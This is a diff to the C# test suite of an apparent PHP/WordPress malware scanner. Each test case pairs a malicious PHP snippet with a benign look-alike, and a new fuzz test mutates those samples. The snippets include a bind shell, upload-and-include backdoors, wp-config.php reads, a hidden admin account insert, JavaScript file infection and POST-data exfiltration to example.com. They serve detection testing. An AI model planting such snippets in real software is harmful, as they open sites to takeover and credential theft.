@@ -58,6 +58,27 @@ public sealed class AttackTests
     [InlineData("malware_login", "<?php add_action('pre_user_query', 'hide'); function hide($q) { $q->query_where = str_replace('WHERE 1=1', \"WHERE 1=1 AND user_login != 'ghost'\", $q->query_where); }", "<?php add_action('pre_user_query', 'order'); function order($q) { $q->query_where .= ' AND user_status = 0'; }")]
     [InlineData("malware_webshell", "<?php $r = file_get_contents('https://zone-h.org/notify/single?d=' . $_POST['d']);", "<?php echo 'See zone-h.org for lists of defaced sites';")]
     [InlineData("malware_obfuscated", "<?php function _a4b() { } $_ez5o7dd6 = $_ox7rq8qik = $_bm4v7jv8c = $_l5xkt6amel = $_da8pc2i6 = $_74096cmv9a = $_76bu8uwhz = $_k1sx7bg07 = 1;", "<?php $_param1 = $_param2 = $_param3 = $_param4 = $_param5 = $_param6 = $_param7 = $_param8 = 1;")]
+    [InlineData("malware_hidden_code", "<?php require_once $_SERVER['DOCUMENT_ROOT'] . '/wp-content/uploads/2020/01/logo.png';", "<?php $logo = $_SERVER['DOCUMENT_ROOT'] . '/wp-content/uploads/2020/01/logo.png'; readfile($logo);")]
+    [InlineData("malware_backdoor", "<?php @include('/tmp/.sess_x');", "<?php echo file_get_contents('/tmp/report.txt');")]
+    [InlineData("malware_backdoor", "<?php include 'zip://' . $_GET['f'] . '#x';", "<?php $z = fopen('zip://' . $archive . '#readme.txt', 'r'); echo fgets($z);")]
+    [InlineData("malware_backdoor", "<?php readfile('../../../wp-config.php');", "<?php readfile('../../../readme.html');")]
+    [InlineData("malware_backdoor", "<?php $f = $_SERVER['DOCUMENT_ROOT'] . '/wp-config.php'; echo file_get_contents($f);", "<?php $c = file_get_contents(ABSPATH . 'wp-config.php'); echo strlen($c);")]
+    [InlineData("malware_backdoor", "<?php ini_set('unserialize_callback_func', 'system'); unserialize($_GET['c']);", "<?php ini_set('unserialize_callback_func', 'load_class'); unserialize($stored);")]
+    [InlineData("malware_backdoor", "<?php $s = socket_create(AF_INET, SOCK_STREAM, 0); socket_bind($s, '0.0.0.0', 99); socket_listen($s); $c = socket_accept($s); while ($l = socket_read($c, 99)) { socket_write($c, `$l`); }", "<?php $s = socket_create(AF_INET, SOCK_STREAM, 0); socket_bind($s, '127.0.0.1', 99); socket_listen($s); $c = socket_accept($s); socket_write($c, 'hello');")]
+    [InlineData("malware_backdoor", "<?php $p = '/tmp/' . md5(rand()); file_put_contents($p, $_POST['x']); require $p;", "<?php $p = '/tmp/' . md5(rand()); file_put_contents($p, $_POST['x']); unlink($p);")]
+    [InlineData("malware_backdoor", "<?php if (isset($_REQUEST['k']) && $_REQUEST['k'] == 'x') { @extract($_REQUEST); @die($one($two)); }", "<?php if (isset($_REQUEST['k'])) { extract(array('one' => 1)); die($one); }")]
+    [InlineData("malware_backdoor", "<?php chdir('a'); ini_set('open_basedir', '..'); chdir('..'); chdir('..'); ini_set('open_basedir', '/');", "<?php chdir('a'); echo ini_get('open_basedir');")]
+    [InlineData("malware_uploader", "<?php $z = new ZipArchive; $z->open($_FILES['z']['tmp_name']); $z->extractTo('./');", "<?php $z = new ZipArchive; $z->open('release.zip'); $z->extractTo('./');")]
+    [InlineData("malware_uploader", "<?php rename($_FILES['x']['tmp_name'], $_FILES['x']['name']);", "<?php rename('a.tmp', 'a.txt');")]
+    [InlineData("malware_uploader", "<?php $f = new SplFileObject($_POST['n'], 'w'); $f->fwrite($_POST['c']);", "<?php $f = new SplFileObject('log.txt', 'w'); $f->fwrite('x');")]
+    [InlineData("malware_uploader", "<?php function all($d) { foreach (scandir($d) as $f) { file_put_contents(\"$d/$f/index.html\", $_POST['html']); all(\"$d/$f\"); } } all($_POST['dir']);", "<?php function all($d) { foreach (scandir($d) as $f) { file_put_contents(\"$d/$f/index.html\", ''); } } all('uploads');")]
+    [InlineData("malware_dropper", "<?php foreach (glob('*.js') as $f) { file_put_contents($f, \"var s=document.createElement('script');s.src='//example.net/a.js';\" . file_get_contents($f)); }", "<?php foreach (glob('*.js') as $f) { file_put_contents($f, \"/* built */\\n\" . file_get_contents($f)); }")]
+    [InlineData("malware_login", "<?php global $wpdb; $wpdb->query(\"INSERT INTO wp_users (user_login, user_pass) VALUES ('a', MD5('a'))\"); $wpdb->query(\"INSERT INTO wp_usermeta VALUES (9, 'wp_capabilities', 'a:1:{s:13:\\\"administrator\\\";b:1;}')\");", "<?php global $wpdb; $wpdb->query(\"INSERT INTO wp_visits (day, n) VALUES (CURDATE(), 1)\");")]
+    [InlineData("malware_webshell", "<?php $d = base64_encode(json_encode($_POST)); $c = curl_init('https://example.com/g'); curl_setopt($c, CURLOPT_POSTFIELDS, 'd=' . $d); curl_exec($c);", "<?php $d = http_build_query(array('cmd' => '_notify-validate') + $_POST); $c = curl_init('https://example.com/ipn'); curl_setopt($c, CURLOPT_POSTFIELDS, $d); curl_exec($c);")]
+    [InlineData("malware_webshell", "<?php $c = curl_init($_GET['url']); curl_setopt($c, CURLOPT_RETURNTRANSFER, 1); echo curl_exec($c);", "<?php $c = curl_init('https://api.example.com/' . rawurlencode($_GET['id'])); curl_setopt($c, CURLOPT_RETURNTRANSFER, 1); echo curl_exec($c);")]
+    [InlineData("malware_spam", "<?php $bots = array('googlebot', 'bingbot'); foreach ($bots as $b) { if (strpos($_SERVER['HTTP_USER_AGENT'], $b) !== false) { echo 'x'; exit; } } header('Location: http://example.com/x');", "<?php if (strpos($_SERVER['HTTP_USER_AGENT'], 'googlebot') !== false) { header('Location: /sitemap.xml'); }")]
+    [InlineData("malware_spam", "<?php $r = $_SERVER['HTTP_REFERER']; if (strstr($r, 'google') || strstr($r, 'bing')) { echo '<script>window.location=\"http://example.com\"</script>'; }", "<?php $r = $_SERVER['HTTP_REFERER']; if (strstr($r, 'google') || strstr($r, 'bing')) { echo '<p>Welcome</p>'; }")]
+    [InlineData("malware_spam", "<html><body><center><font color=red size=7>HACKED BY SOME TEAM</font></center></body></html>", "<html><body><p>Was your site hacked? Read on by all means.</p></body></html>")]
     public void What_attackers_do_is_found_and_its_honest_neighbour_left_alone(string kind, string attack, string honest)
     {
         var finding = Assert.Single(Code.Analyse(("x.php", attack)).Findings, f => f.Kind == kind);
@@ -89,5 +110,22 @@ public sealed class AttackTests
         const string Body = "class T { function f($c) { @ini_set('x', 1); set_time_limit(0); if (ini_get('safe_mode')) { return; } exec('ls /etc/passwd'); shell_exec('whoami'); chmod($c, 1); unlink($c); scandir($c); symlink($c, 'x'); posix_getuid(); php_uname(); fsockopen('x', 1); base64_decode('x'); } }";
         Assert.DoesNotContain(Code.Analyse(("x.php", $"<?php {Library} {Body}")).Findings, f => f.Category == FindingCategory.Malware);
         Assert.Contains(Code.Analyse(("x.php", $"<?php if ($a) {{ $t->f($b); }} echo 1; echo 2; {Body}")).Findings, f => f.Category == FindingCategory.Malware);
+    }
+
+    [Fact]
+    public void Whatever_becomes_of_an_attackers_text_on_its_way_it_is_judged()
+    {
+        var random = new Random(5);
+        var attacks = typeof(AttackTests).GetMethod(nameof(What_attackers_do_is_found_and_its_honest_neighbour_left_alone))!.GetCustomAttributes(typeof(InlineDataAttribute), false).Cast<InlineDataAttribute>().SelectMany(d => d.Data.Skip(1).Cast<string>()).ToArray();
+        for (var n = 0; n < 2_000; n++)
+        {
+            var text = attacks[random.Next(attacks.Length)];
+            for (var cuts = random.Next(1, 5); cuts > 0; cuts--)
+            {
+                var (at, other) = (random.Next(text.Length), attacks[random.Next(attacks.Length)]);
+                text = random.Next(3) switch { 0 => text[..(at + 1)], 1 => text.Remove(at, random.Next(1, text.Length - at + 1)) + other[random.Next(other.Length)..], _ => text.Insert(at, other[random.Next(other.Length)..]) };
+            }
+            Assert.NotNull(Code.Analyse(new AnalysisOptions(Code.Today, MaxSteps: 20_000), ("x.php", text)));
+        }
     }
 }
